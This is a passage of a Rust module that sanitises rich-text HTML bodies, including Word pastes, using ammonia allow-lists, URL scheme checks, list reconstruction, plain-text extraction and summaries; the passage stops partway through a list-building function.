//! HTML for item bodies: sanitising (allow-list, on top of ammonia), plain text, summaries, escaping and
//! the accessibility check on images.
//!
//! # How [`sanitize_body`] works
//!
//! 1. **Normalise** (ammonia pass A). The body allow-list plus `h1`, and on a few elements the Word hints
//!    `style`/`align`, which an attribute filter reduces to internal markers (`x-center`, `x-indent`,
//!    `x-list:l0:1`, …); every other style declaration is gone here. Comments (so Word's conditional
//!    comments), `<script>`, `<style>`, `<xml>`, `<title>`, `<svg>`, `<math>`, `<iframe>`, `<object>`, … are
//!    dropped with their content; Word's namespaced elements (`<o:p>`, `<w:*>`, `<v:*>`, `<m:*>`, `<x:*>`)
//!    too; other unknown elements (`<font>`, `<st1:chsdate>`, …) are unwrapped to their content.
//! 2. **Transform** the normalised (hence regular) output as a small tree: `h1` → `h2`; Word alignment and
//!    first-line indent become the allow-listed classes; Word list paragraphs (`mso-list`) become real
//!    `<ol>`/`<ul>` when their marker is `N.` or a bullet (other markers such as `一、` or `（1）` stay as
//!    text in a paragraph, so the document reads the same); `<span>`s that carry nothing and `<a>`s without
//!    `href` are unwrapped; empty paragraphs are dropped.
//! 3. **Final** (ammonia pass B) with exactly the published policy. Only this pass's output leaves the
//!    module, so nothing the transform does can widen the policy.
//! 4. Repeat 1–3 until the output no longer changes (HTML parsing is not idempotent on every tree ammonia
//!    produces, e.g. after unwrapping an `<object>` that scoped a `<div>` inside a `<p>`), so sanitising
//!    twice gives the same result.
//!
//! URLs (`href`, `src`) are checked twice: by ammonia's scheme allow-list, and by this module's own
//! rules (`safe_url`), which also reject control characters and U+FFFD anywhere (what `java\0script:`
//! parses to).
//!
//! Sanitised output never contains a NUL character (html5ever drops or replaces them), so it can be
//! stored in PostgreSQL `text`; raw input may contain NULs (see [`XSS_PAYLOADS`]).

use std::borrow::Cow;
use std::collections::{BTreeSet, HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};

/// Sanitise an item body (rich text from the editor, or pasted from Word). Allow-list only.
pub fn sanitize_body(html: &str) -> String {
    let mut out = sanitize_round(html);
    for _ in 0..MAX_ROUNDS {
        let next = sanitize_round(&out);
        if next == out {
            break;
        }
        out = next;
    }
    out
}

/// Plain text of a body for search, privacy checks and summaries: block elements become line breaks,
/// entities decoded, whitespace collapsed within lines, no tags.
///
/// Lines are trimmed and empty lines dropped. Table cells of a row share a line, separated by a space.
/// A line break in the source text between two CJK characters is dropped rather than turned into a
/// space (Word wraps its HTML source in the middle of Chinese sentences). Text that a page would not
/// show (`<script>`, `<style>`, Word's XML islands, …) and attribute values (`alt`, `title`) are not included.
pub fn to_text(html: &str) -> String {
    let tree = prepare(html);
    let mut buf = TextBuf::default();
    collect_text(&tree, &mut buf, TextMode::Flow);
    buf.finish()
}

/// A summary: first `max_chars` chars of [`to_text`] on one line, cut at a sentence end (。！？；) when one
/// falls in the last 30% of the limit, with "…" when cut.
///
/// Lines are joined with a space, or with nothing when either side is CJK. `max_chars` counts `char`s
/// of text; the "…" comes on top. `max_chars == 0` gives an empty string.
pub fn summarize(html: &str, max_chars: usize) -> String {
    if max_chars == 0 {
        return String::new();
    }
    let text = join_lines(&to_text(html));
    let chars: Vec<char> = text.chars().collect();
    if chars.len() <= max_chars {
        return text;
    }
    let head = &chars[..max_chars];
    let cut = head
        .iter()
        .rposition(|c| SENTENCE_ENDS.contains(c))
        .map(|p| p + 1)
        .filter(|&len| len * 10 >= max_chars * 7)
        .unwrap_or(max_chars);
    let mut out: String = head[..cut].iter().collect();
    out.truncate(out.trim_end().len());
    out.push('…');
    out
}

/// Escape text for HTML (for places that build HTML by hand): `& < > " '`. Safe in text and in quoted
/// attribute values.
pub fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 8);
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// Images without a non-empty alt attribute, by src (the editor refuses to save them: accessibility rule).
///
/// An `alt` of only whitespace counts as missing. Images are taken as the sanitiser sees them: an image
/// whose `src` is not allowed (e.g. `javascript:`) or absent is reported as `""`. Document order,
/// duplicates kept.
pub fn images_missing_alt(html: &str) -> Vec<String> {
    let tree = parse_fragment(&normalise(html));
    let mut out = Vec::new();
    find_images_missing_alt(&tree, &mut out);
    out
}

// ---------------------------------------------------------------------------------------------------------
// Policy
// ---------------------------------------------------------------------------------------------------------

/// Elements allowed in a published body.
const BODY_TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "b",
    "em",
    "i",
    "u",
    "s",
    "sub",
    "sup",
    "blockquote",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "colgroup",
    "col",
    "a",
    "img",
    "figure",
    "figcaption",
    "span",
    "div",
    "pre",
    "code",
    "abbr",
];

/// Attributes allowed per element (`a` also gets `rel="noopener noreferrer"` from ammonia).
const BODY_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("a", &["href", "title"]),
    ("img", &["src", "alt", "width", "height"]),
    ("th", &["colspan", "rowspan", "scope"]),
    ("td", &["colspan", "rowspan", "scope"]),
    ("ol", &["start"]),
    ("abbr", &["title"]),
];

/// Classes allowed, on [`CLASSED_TAGS`] only. Also the canonical order of classes in output.
const BODY_CLASSES: &[&str] = &["text-center", "text-right", "indent"];
const CLASSED_TAGS: &[&str] = &["p", "div", "td", "th"];

const URL_SCHEMES: &[&str] = &["http", "https", "mailto", "tel"];
const LINK_REL: &str = "noopener noreferrer";

/// Elements removed together with their content. None of them is in [`BODY_TAGS`].
const DROP_WITH_CONTENT: &[&str] = &[
    "script", "style", "xml", "title", "head", "noscript", "noembed", "noframes", "iframe", "frameset", "frame",
    "template", "textarea", "select", "object", "applet", "embed", "svg", "math",
];

/// Namespace prefixes of Word/Office elements dropped with their content (`<o:p>`, `<w:WordDocument>`,
/// `<v:shape>`, `<m:oMath>`, `<x:ExcelWorkbook>`). Other prefixed elements (`<st1:chsdate>`) are unwrapped.
const OFFICE_PREFIXES: &[&str] = &["o", "w", "v", "m", "x"];

/// Pass A keeps `style`/`align` on these, as hints for the transform.
const HINTED_TAGS: &[&str] = &["p", "div", "td", "th", "span", "h1", "h2", "h3", "h4", "h5", "h6"];

/// Elements dropped by the transform when they have no content.
const EMPTY_DROPPED: &[&str] = &["a", "b", "strong", "em", "i", "u", "s", "sub", "sup", "code", "abbr", "span"];

const SENTENCE_ENDS: &[char] = &['。', '！', '？', '；'];

/// Rounds of sanitising after the first, looking for a fixed point (two suffice in practice).
const MAX_ROUNDS: usize = 4;

/// Deeper elements are flattened into their ancestor at this depth (text kept), which bounds recursion
/// in this module. Ammonia itself copes with any depth.
const MAX_DEPTH: usize = 128;

/// Internal attributes between the transform's steps; never in output (pass B drops them anyway).
const MARKER_ATTR: &str = "x-marker";
const SYMBOL_ATTR: &str = "x-symbol";
const LIST_ATTR: &str = "x-list";

static FINAL: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut b = Builder::empty();
    b.tags(BODY_TAGS.iter().copied().collect())
        .clean_content_tags(DROP_WITH_CONTENT.iter().copied().collect())
        .generic_attributes(HashSet::new())
        .tag_attributes(body_attributes())
        .allowed_classes(body_classes())
        .url_schemes(URL_SCHEMES.iter().copied().collect())
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some(LINK_REL))
        .strip_comments(true)
        .attribute_filter(filter_attribute);
    b
});

fn body_attributes() -> HashMap<&'static str, HashSet<&'static str>> {
    BODY_ATTRIBUTES.iter().map(|(tag, attrs)| (*tag, attrs.iter().copied().collect())).collect()
}

fn body_classes() -> HashMap<&'static str, HashSet<&'static str>> {
    CLASSED_TAGS.iter().map(|tag| (*tag, BODY_CLASSES.iter().copied().collect())).collect()
}

fn sanitize_round(html: &str) -> String {
    let mut intermediate = String::with_capacity(html.len());
    serialize(&prepare(html), &mut intermediate);
    let out = FINAL.clean(&intermediate).to_string();
    // Whitespace around the body (Word's head, blank lines) means nothing.
    let trimmed = out.trim_matches(|c: char| c.is_ascii_whitespace());
    if trimmed.len() == out.len() { out } else { trimmed.to_string() }
}

/// Pass A and the transform: the tree that pass B, [`to_text`] work on.
fn prepare(html: &str) -> Vec<Node> {
    finalize(transform_nodes(parse_fragment(&normalise(html))))
}

/// Pass A: ammonia with the body policy plus `h1` and Word hints.
fn normalise(html: &str) -> String {
    let office = office_tag_names(html);
    let mut clean: HashSet<&str> = DROP_WITH_CONTENT.iter().copied().collect();
    clean.extend(office.iter().map(String::as_str));
    let mut tags: HashSet<&str> = BODY_TAGS.iter().copied().collect();
    tags.insert("h1");
    let mut attrs = body_attributes();
    for tag in HINTED_TAGS {
        let set = attrs.entry(tag).or_default();
        set.insert("style");
        if *tag != "span" {
            set.insert("align");
        }
    }
    let mut b = Builder::empty();
    b.tags(tags)
        .clean_content_tags(clean)
        .generic_attributes(HashSet::new())
        .tag_attributes(attrs)
        .allowed_classes(body_classes())
        .url_schemes(URL_SCHEMES.iter().copied().collect())
        .url_relative(UrlRelative::PassThrough)
        .link_rel(None)
        .strip_comments(true)
        .attribute_filter(filter_attribute_with_hints);
    b.clean(html).to_string()
}

/// Lower-cased names of Office-namespaced start tags in `html`, as html5ever's tokenizer names them
/// (ASCII lower-cased, up to whitespace, `/` or `>`), to be dropped with their content.
fn office_tag_names(html: &str) -> BTreeSet<String> {
    let b = html.as_bytes();
    let mut names = BTreeSet::new();
    let mut i = 0;
    while let Some(k) = b[i..].iter().position(|&c| c == b'<') {
        let start = i + k + 1;
        let mut j = start;
        if j < b.len() && b[j].is_ascii_alphabetic() {
            while j < b.len() && !matches!(b[j], b'\t' | b'\n' | b'\x0c' | b'\r' | b' ' | b'/' | b'>') {
                j += 1;
            }
            let name = html[start..j].to_ascii_lowercase().replace('\0', "\u{FFFD}");
            if let Some((prefix, _)) = name.split_once(':')
                && OFFICE_PREFIXES.contains(&prefix)
            {
                names.insert(name);
            }
        }
        i = j.max(start);
    }
    names
}

/// Attribute filter of the final pass: URL rules and value shapes. `None` drops the attribute.
fn filter_attribute<'u>(element: &str, attribute: &str, value: &'u str) -> Option<Cow<'u, str>> {
    match attribute {
        "href" | "src" => safe_url(value),
        "colspan" => bounded_int(value, 1, 1000),
        "rowspan" => bounded_int(value, 0, 65534),
        "width" | "height" => bounded_int(value, 0, 100_000),
        "start" => {
            let n: i32 = value.trim().parse().ok()?;
            Some(Cow::Owned(n.to_string()))
        }
        "scope" => {
            let v = value.trim().to_ascii_lowercase();
            matches!(v.as_str(), "row" | "col" | "rowgroup" | "colgroup").then_some(Cow::Owned(v))
        }
        "class" if !CLASSED_TAGS.contains(&element) => None,
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Attribute filter of pass A: as [`filter_attribute`], plus Word's `style`/`align` reduced to hints.
fn filter_attribute_with_hints<'u>(element: &str, attribute: &str, value: &'u str) -> Option<Cow<'u, str>> {
    match attribute {
        "style" => word_style_hints(value).map(Cow::Owned),
        "align" => {
            let v = value.trim().to_ascii_lowercase();
            matches!(v.as_str(), "center" | "right").then_some(Cow::Owned(v))
        }
        _ => filter_attribute(element, attribute, value),
    }
}

fn bounded_int(value: &str, min: u32, max: u32) -> Option<Cow<'_, str>> {
    let v = value.trim();
    if v.is_empty() || !v.bytes().all(|c| c.is_ascii_digit()) {
        return None;
    }
    let n: u32 = v.parse().ok()?;
    (min..=max)
        .contains(&n)
        .then(|| if n.to_string() == value { Cow::Borrowed(value) } else { Cow::Owned(n.to_string()) })
}

/// A URL for `href`/`src`, or `None`. Mirrors what a browser's URL parser does before reading the scheme
/// (strip leading/trailing C0 controls and spaces, remove tabs and newlines), then: no control character
/// and no U+FFFD anywhere; a scheme, if any, must be http, https, mailto or tel. Relative URLs pass
/// (including "/attachments/…", "#frag", "?q", "//host/…"). Returns the cleaned value.
fn safe_url(value: &str) -> Option<Cow<'_, str>> {
    let trimmed = value.trim_matches(|c: char| c <= ' ');
    let cleaned: Cow<'_, str> = if trimmed.contains(['\t', '\n', '\r']) {
        Cow::Owned(trimmed.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect())
    } else {
        Cow::Borrowed(trimmed)
    };
    if cleaned.chars().any(|c| c.is_control() || c == '\u{FFFD}') {
        return None;
    }
    if let Some(colon) = cleaned.find(':') {
        let before = &cleaned[..colon];
        if !before.contains(['/', '?', '#']) {
            let scheme = before.to_ascii_lowercase();
            if !URL_SCHEMES.contains(&scheme.as_str()) {
                return None;
            }
        }
    }
    Some(cleaned)
}

/// Word's inline style reduced to the hints the transform uses, `;`-separated, or `None`.
fn word_style_hints(style: &str) -> Option<String> {
    let mut hints: Vec<String> = Vec::new();
    for decl in style.split(';') {
        let Some((prop, val)) = decl.split_once(':') else { continue };
        let prop = prop.trim().to_ascii_lowercase();
        let val = val.trim().trim_end_matches("!important").trim().to_ascii_lowercase();
        match prop.as_str() {
            "text-align" if val == "center" => hints.push("x-center".into()),
            "text-align" if val == "right" => hints.push("x-right".into()),
            "text-indent" => {
                let num: String = val.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
                if num.parse::<f64>().is_ok_and(|n| n > 0.0) {
                    hints.push("x-indent".into());
                }
            }
            "mso-list" if val == "ignore" => hints.push("x-ignore".into()),
            "mso-list" => {
                let mut id = None;
                let mut level = None;
                for token in val.split_ascii_whitespace() {
                    if let Some(n) = token.strip_prefix("level") {
                        level = n.parse::<u32>().ok().filter(|l| (1..=9).contains(l));
                    } else if token.starts_with('l') && token[1..].bytes().all(|c| c.is_ascii_digit()) {
                        id = Some(token.to_string());
                    }
                }
                if let (Some(id), Some(level)) = (id, level) {
                    hints.push(format!("x-list:{id}:{level}"));
                }
            }
            "font-family" if ["wingdings", "symbol", "webdings"].iter().any(|f| val.contains(f)) => {
                hints.push("x-symbol".into())
            }
            _ => {}
        }
    }
    (!hints.is_empty()).then(|| hints.join(";"))
}

#[derive(Debug, Default)]
struct Hints {
    center: bool,
    right: bool,
    indent: bool,
    ignore: bool,
    symbol: bool,
    list_level: Option<u32>,
}

impl Hints {
    fn parse(s: &str) -> Hints {
        let mut h = Hints::default();
        for token in s.split(';') {
            match token {
                "x-center" => h.center = true,
                "x-right" => h.right = true,
                "x-indent" => h.indent = true,
                "x-ignore" => h.ignore = true,
                "x-symbol" => h.symbol = true,
                t => {
                    if let Some(rest) = t.strip_prefix("x-list:") {
                        h.list_level = rest.rsplit(':').next().and_then(|l| l.parse().ok());
                    }
                }
            }
        }
        h
    }
}

// ---------------------------------------------------------------------------------------------------------
// A small tree over ammonia's serialised output
// ---------------------------------------------------------------------------------------------------------
//
// Ammonia's output is regular: every tag properly nested, attribute values double-quoted with `& " < >`
// escaped, text with `& < >` escaped, no comments. This parser relies on that for structure only; pass B
// re-sanitises whatever comes out of it.

#[derive(Debug, Clone, PartialEq)]
enum Node {
    El(Element),
    /// Text as serialised (entities escaped).
    Text(String),
}

#[derive(Debug, Clone, PartialEq, Default)]
struct Element {
    name: String,
    /// Decoded values.
    attrs: Vec<(String, String)>,
    children: Vec<Node>,
}

impl Element {
    fn new(name: &str) -> Element {
        Element { name: name.to_string(), ..Element::default() }
    }

    fn attr(&self, name: &str) -> Option<&str> {
        self.attrs.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str())
    }

    fn take_attr(&mut self, name: &str) -> Option<String> {
        let i = self.attrs.iter().position(|(n, _)| n == name)?;
        Some(self.attrs.remove(i).1)
    }

    fn set_attr(&mut self, name: &str, value: String) {
        match self.attrs.iter_mut().find(|(n, _)| n == name) {
            Some(a) => a.1 = value,
            None => self.attrs.push((name.to_string(), value)),
        }
    }
}

const VOID: &[&str] = &[
    "area", "base", "basefont", "bgsound", "br", "col", "embed", "frame", "hr", "img", "input", "keygen", "link",
    "meta", "param", "source", "track", "wbr",
];

fn is_void(name: &str) -> bool {
    VOID.contains(&name)
}

fn is_html_space(c: u8) -> bool {
    matches!(c, b'\t' | b'\n' | b'\x0c' | b'\r' | b' ')
}

fn parse_fragment(s: &str) -> Vec<Node> {
    let b = s.as_bytes();
    let mut stack: Vec<Element> = vec![Element::new("#root")];
    // Start tags dropped beyond MAX_DEPTH whose end tags are still to come.
    let mut skipped = 0usize;
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'<' {
            if s[i..].starts_with("<!--") {
                i = s[i + 4..].find("-->").map_or(b.len(), |k| i + 4 + k + 3);
                continue;
            }
            if b.get(i + 1) == Some(&b'/') && b.get(i + 2).is_some_and(u8::is_ascii_alphabetic) {
                let end = b[i..].iter().position(|&c| c == b'>').map_or(b.len(), |k| i + k);
                let name = s[i + 2..end].trim_matches(|c: char| c.is_ascii_whitespace()).to_ascii_lowercase();
                i = (end + 1).min(b.len());
                if skipped > 0 {
                    skipped -= 1;
                    continue;
                }
                if let Some(pos) = stack.iter().rposition(|e| e.name == name)
                    && pos > 0
                {
                    while stack.len() > pos {
                        close_top(&mut stack);
                    }
                }
                continue;
            }
            if b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
                let (el, next) = parse_start_tag(s, i + 1);
                i = next;
                if is_void(&el.name) {
                    if let Some(top) = stack.last_mut() {
                        push_node(&mut top.children, Node::El(el));
                    }
                } else if skipped > 0 || stack.len() > MAX_DEPTH {
                    skipped += 1;
                } else {
                    stack.push(el);
                }
                continue;
            }
        }
        let next = b[i + 1..].iter().position(|&c| c == b'<').map_or(b.len(), |k| i + 1 + k);
        if let Some(top) = stack.last_mut() {
            push_node(&mut top.children, Node::Text(s[i..next].to_string()));
        }
        i = next;
    }
    while stack.len() > 1 {
        close_top(&mut stack);
    }
    stack.pop().map(|root| root.children).unwrap_or_default()
}

fn close_top(stack: &mut Vec<Element>) {
    if let Some(e) = stack.pop()
        && let Some(parent) = stack.last_mut()
    {
        parent.children.push(Node::El(e));
    }
}

/// Parses a start tag whose name begins at `i`; returns the element and the index after `>`.
fn parse_start_tag(s: &str, i: usize) -> (Element, usize) {
    let b = s.as_bytes();
    let mut j = i;
    while j < b.len() && !(is_html_space(b[j]) || b[j] == b'/' || b[j] == b'>') {
        j += 1;
    }
    let mut el = Element::new(&s[i..j].to_ascii_lowercase());
    loop {
        while j < b.len() && (is_html_space(b[j]) || b[j] == b'/') {
            j += 1;
        }
        if j >= b.len() {
            break;
        }
        if b[j] == b'>' {
            j += 1;
            break;
        }
        let name_start = j;
        while j < b.len() && !(is_html_space(b[j]) || matches!(b[j], b'=' | b'>' | b'/')) {
            j += 1;
        }
        let name = s[name_start..j].to_ascii_lowercase();
        while j < b.len() && is_html_space(b[j]) {
            j += 1;
        }
        let mut value = String::new();
        if j < b.len() && b[j] == b'=' {
            j += 1;
            while j < b.len() && is_html_space(b[j]) {
                j += 1;
            }
            if j < b.len() && (b[j] == b'"' || b[j] == b'\'') {
                let quote = b[j];
                let start = j + 1;
                let end = b[start..].iter().position(|&c| c == quote).map_or(b.len(), |k| start + k);
                value = decode_entities(&s[start..end]);
                j = (end + 1).min(b.len());
            } else {
                let start = j;
                while j < b.len() && !(is_html_space(b[j]) || b[j] == b'>') {
                    j += 1;
                }
                value = decode_entities(&s[start..j]);
            }
        }
        if !name.is_empty() && el.attr(&name).is_none() {
            el.attrs.push((name, value));
        }
    }
    (el, j)
}

/// Decodes the entities html5ever's serialiser writes (`&amp; &lt; &gt; &quot; &nbsp;`) and numeric ones;
/// anything else is left as it is.
fn decode_entities(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(p) = rest.find('&') {
        out.push_str(&rest[..p]);
        rest = &rest[p..];
        let window = &rest.as_bytes()[..rest.len().min(12)];
        if let Some(semi) = window.iter().position(|&c| c == b';') {
            let name = &rest[1..semi];
            let decoded = match name {
                "amp" => Some('&'),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "nbsp" => Some('\u{a0}'),
                _ => {
                    if let Some(hex) = name.strip_prefix("#x").or_else(|| name.strip_prefix("#X")) {
                        u32::from_str_radix(hex, 16).ok().and_then(char::from_u32)
                    } else if let Some(dec) = name.strip_prefix('#') {
                        dec.parse::<u32>().ok().and_then(char::from_u32)
                    } else {
                        None
                    }
                }
            };
            if let Some(c) = decoded {
                out.push(c);
                rest = &rest[semi + 1..];
                continue;
            }
        }
        out.push('&');
        rest = &rest[1..];
    }
    out.push_str(rest);
    out
}

/// Escapes text for a text node (what the intermediate serialisation needs).
fn escape_text(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

fn serialize(nodes: &[Node], out: &mut String) {
    for node in nodes {
        match node {
            Node::Text(t) => out.push_str(t),
            Node::El(e) => {
                out.push('<');
                out.push_str(&e.name);
                for (name, value) in &e.attrs {
                    out.push(' ');
                    out.push_str(name);
                    out.push_str("=\"");
                    out.push_str(&escape(value));
                    out.push('"');
                }
                out.push('>');
                if is_void(&e.name) {
                    continue;
                }
                // The parser drops one newline right after <pre>: keep a leading one.
                if e.name == "pre" && matches!(e.children.first(), Some(Node::Text(t)) if t.starts_with('\n')) {
                    out.push('\n');
                }
                serialize(&e.children, out);
                out.push_str("</");
                out.push_str(&e.name);
                out.push('>');
            }
        }
    }
}

/// Appends a node, merging adjacent text.
fn push_node(out: &mut Vec<Node>, node: Node) {
    if let Node::Text(t) = &node {
        if t.is_empty() {
            return;
        }
        if let Some(Node::Text(last)) = out.last_mut() {
            last.push_str(t);
            return;
        }
    }
    out.push(node);
}

/// Decoded text content.
fn text_of(nodes: &[Node]) -> String {
    let mut out = String::new();
    for node in nodes {
        match node {
            Node::Text(t) => out.push_str(&decode_entities(t)),
            Node::El(e) => out.push_str(&text_of(&e.children)),
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------------------
// Transform
// ---------------------------------------------------------------------------------------------------------

fn transform_nodes(nodes: Vec<Node>) -> Vec<Node> {
    let mut out = Vec::with_capacity(nodes.len());
    for node in nodes {
        match node {
            Node::Text(_) => push_node(&mut out, node),
            Node::El(e) => {
                for n in transform_element(e) {
                    push_node(&mut out, n);
                }
            }
        }
    }
    group_word_lists(out)
}

fn transform_element(mut e: Element) -> Vec<Node> {
    e.children = transform_nodes(std::mem::take(&mut e.children));
    let hints = e.take_attr("style").map(|s| Hints::parse(&s)).unwrap_or_default();
    let align = e.take_attr("align");

    if e.name == "span" {
        if hints.ignore {
            // Word's list marker (`<span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp;</span></span>`).
            let marker = collapse_spaces(&text_of(&e.children));
            let mut m = Element::new("span");
            m.children = vec![Node::Text(escape_text(&marker_with_separator(&marker)))];
            m.attrs.push((MARKER_ATTR.to_string(), marker));
            if hints.symbol {
                m.attrs.push((SYMBOL_ATTR.to_string(), "1".to_string()));
            }
            return vec![Node::El(m)];
        }
        if hints.symbol {
            mark_symbol_markers(&mut e.children);
        }
    }

    if let Some(level) = hints.list_level
        && e.name == "p"
        && let Some((marker, symbol)) = first_marker(&e.children)
    {
        match classify_marker(&marker, symbol) {
            MarkerKind::Ordered(n) => {
                remove_first_marker(&mut e.children);
                e.set_attr(LIST_ATTR, format!("{level} ol {n}"));
            }
            MarkerKind::Bullet => {
                remove_first_marker(&mut e.children);
                e.set_attr(LIST_ATTR, format!("{level} ul 0"));
            }
            // Other markers (一、 （1） a. …) stay as text; `finalize` unwraps them.
            MarkerKind::Other => {}
        }
    }

    if CLASSED_TAGS.contains(&e.name.as_str()) {
        let existing = e.take_attr("class").unwrap_or_default();
        let wanted = |class: &str| match class {
            "text-center" => hints.center || align.as_deref() == Some("center"),
            "text-right" => hints.right || align.as_deref() == Some("right"),
            "indent" => hints.indent,
            _ => false,
        };
        let classes: Vec<&str> = BODY_CLASSES
            .iter()
            .copied()
            .filter(|c| existing.split_ascii_whitespace().any(|x| x == *c) || wanted(c))
            .collect();
        if !classes.is_empty() {
            e.set_attr("class", classes.join(" "));
        }
    } else {
        e.take_attr("class");
    }
    if e.attr("title").is_some_and(|t| t.trim().is_empty()) {
        e.take_attr("title");
    }
    e.take_attr("rel");

    match e.name.as_str() {
        "h1" => e.name = "h2".to_string(),
        "a" if e.attr("href").is_none() => return e.children,
        "span" if e.attrs.is_empty() => return e.children,
        // Empty paragraphs and inline wrappers show nothing (Word leaves many around <o:p>).
        "p" if e.children.is_empty() && e.attr(LIST_ATTR).is_none() => return Vec::new(),
        name if e.children.is_empty() && EMPTY_DROPPED.contains(&name) => return Vec::new(),
        _ => {}
    }
    vec![Node::El(e)]
}

fn mark_symbol_markers(nodes: &mut [Node]) {
    for node in nodes {
        if let Node::El(e) = node {
            if e.attr(MARKER_ATTR).is_some() {
                e.set_attr(SYMBOL_ATTR, "1".to_string());
            } else {
                mark_symbol_markers(&mut e.children);
            }
        }
    }
}

fn first_marker(nodes: &[Node]) -> Option<(String, bool)> {
    for node in nodes {
        if let Node::El(e) = node {
            if let Some(m) = e.attr(MARKER_ATTR) {
                return Some((m.to_string(), e.attr(SYMBOL_ATTR).is_some()));
            }
            if let Some(found) = first_marker(&e.children) {
                return Some(found);
            }
        }
    }
    None
}

/// Removes the first marker span, and wrappers left empty by that; true when removed.
fn remove_first_marker(nodes: &mut Vec<Node>) -> bool {
    for i in 0..nodes.len() {
        let Node::El(e) = &mut nodes[i] else { continue };
        if e.attr(MARKER_ATTR).is_some() {
            nodes.remove(i);
            return true;
        }
        if remove_first_marker(&mut e.children) {
            if e.children.is_empty() && !is_void(&e.name) {
                nodes.remove(i);
            }
            return true;
        }
    }
    false
}

#[derive(Debug, PartialEq)]
enum MarkerKind {
    Ordered(u32),
    Bullet,
    Other,
}

fn classify_marker(marker: &str, symbol_font: bool) -> MarkerKind {
    const BULLETS: &[char] =
        &['·', '•', '▪', '■', '□', '●', '○', '◆', '◇', '➢', '➤', '►', '✓', '✔', '-', '–', '—', '*', 'o', '§', 'Ø'];
    let m = marker.trim();
    if m.is_empty() {
        return MarkerKind::Other;
    }
    if symbol_font {
        return MarkerKind::Bullet;
    }
    let mut chars = m.chars();
    if let (Some(c), None) = (chars.next(), chars.next())
        && BULLETS.contains(&c)
    {
        return MarkerKind::Bullet;
    }
    if let Some(num) = m.strip_suffix('.').or_else(|| m.strip_suffix('．'))
        && !num.is_empty()
        && num.len() <= 6
        && num.bytes().all(|c| c.is_ascii_digit())
        && let Ok(n) = num.parse()
    {
        return MarkerKind::Ordered(n);
    }
    MarkerKind::Other
}

/// The marker as it stays in text when its paragraph does not become a list item: `一、` and `（一）` run
/// into the text, others (`第一章`, `1.1`, `a.`) get a space.
fn marker_with_separator(marker: &str) -> String {
    match marker.chars().last() {
        None => String::new(),
        Some('、' | '）' | '，' | '：' | '．' | '。') => marker.to_string(),
        Some(_) => format!("{marker} "),
    }
}

fn list_item_info(node: &Node) -> Option<(u32, bool, u32)> {
    let Node::El(e) = node else { return None };
    if e.name != "p" {
        return None;
    }
    let v = e.attr(LIST_ATTR)?;
    let mut parts = v.split(' ');
    let level = parts.next()?.parse().ok()?;
    let ordered = parts.next()? == "ol";
    let n = parts.next()?.parse().ok()?;
    Some((level, ordered, n))
}

fn is_blank_text(node: &Node) -> bool {
    matches!(node, Node::Text(t) if decode_entities(t).chars().all(char::is_whitespace))
}

/// Turns runs of Word list paragraphs (siblings, blank text between them allowed) into nested lists.
fn group_word_lists(nodes: Vec<Node>) -> Vec<Node> {
    if !nodes.iter().any(|n| list_item_info(n).is_some()) {
        return nodes;
    }
    let mut nodes: Vec<Option<Node>> = nodes.into_iter().map(Some).collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < nodes.len() {
        if nodes[i].as_ref().and_then(list_item_info).is_none() {
            if let Some(n) = nodes[i].take() {
                push_node(&mut out, n);
            }
            i += 1;
            continue;
        }
        let mut items = Vec::new();
        loop {
            match nodes.get(i).and_then(|n| n.as_ref()) {
                Some(n) if list_item_info(n).is_some() => {
                    let Some(info) = list_item_info(n) else { break };
                    if let Some(Node::El(p)) = nodes[i].take() {
                        items.push((info, p.children));
                    }
                    i += 1;
                }
                Some(n) if is_blank_text(n) => {
                    let mut k = i;
                    while nodes.get(k).and_then(|n| n.as_ref()).is_some_and(is_blank_text) {
                        k += 1;
                    }
                    if nodes.get(k).and_then(|n| n.as_ref()).and_then(list_item_info).is_some() {
                        i = k;
                    } else {
                        break;
                    }
                }
                _ => break,
            }
        }
        for n in build_lists(items) {
            push_node(&mut out, n);
        }
    }
    out
}

struct OpenList {
    level: u32,
    el: Element,
    next: u32,
}

fn build_lists(items: Vec<((u32, bool, u32), Vec<Node>)>) -> Vec<Node> {
    fn close(stack: &mut Vec<OpenList>, out: &mut Vec<Node>) {
        let Some(done) = stack.pop() else { return };
        match stack.last_mut().and_then(|parent| parent.el.children.last_mut()) {
            Some(Node::El(li)) => li.children.push(Node::El(done.el)),
            _ => out.push(Node::El(done.el)),
        }
    }
    let mut out = Vec::new();
    let mut stack: Vec<OpenList> = Vec::new();
    for ((level, ordered, n), content) in items {
        let tag = if ordered { "ol" } else { "ul" };
        while let Some(top) = stack.last() {
            let same_list = top.el.name == tag && (!ordered || top.next == n);
            if top.level > level || (top.level == level && !same_list) {
                close(&mut stack, &mut out);
            } else {
                break;
            }
        }
        if stack.last().is_none_or(|top| top.level < level) {
            let mut el = Element::new(tag);
            if ordered && n != 1 {
                el.set_attr("start", n.to_string());
            }
            stack.push(OpenList { level, el, next: n });
        }
        let Some(top) = stack.last_mut() else { break };
        let mut li = Element::new("li");
        li.children = content;
        top.el.children.push(Node::El(li));
        top.next = n.saturating_add(1);
    }
